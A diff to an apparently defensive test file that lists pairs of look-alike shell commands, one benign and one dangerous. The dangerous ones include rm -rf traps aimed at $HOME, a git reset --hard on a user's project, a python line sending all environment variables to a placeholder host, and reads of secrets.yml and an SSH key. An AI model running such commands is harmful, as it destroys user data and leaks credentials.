@@ -118,6 +118,18 @@ TWINS = {
         """python3 -c "import os,requests; requests.get('https://x', auth=('u', os.environ.get('T')))" """,
         """python3 -c "import os,requests; requests.get('https://x', headers=dict(os.environ))" """,
     ),
+    "a trap of the main function": (
+        "main() { trap 'rm -rf \"$T\"' EXIT; T=$(mktemp -d); }; main",
+        "main() { trap 'rm -rf \"$T\"' EXIT; T=$HOME; }; main",
+    ),
+    "a local variable of a trap": (
+        "f() { local t; t=$(mktemp -d); trap 'rm -rf \"$t\"' EXIT; }; f",
+        "f() { local t; t=$HOME; trap 'rm -rf \"$t\"' EXIT; }; f",
+    ),
+    "a wrapper that stays where it is": (
+        "timeout 9 git -C /tmp/try reset --hard",
+        "env GIT_WORK_TREE=/home/user/project git -C /tmp/try reset --hard",
+    ),
     "a fixture": ("cat tests/fixtures/secrets.yml", "cat config/secrets.yml"),
     "a key of the person": ("cat tests/fixtures/id_rsa", "cat ~/.ssh/fixtures/id_rsa"),
 }
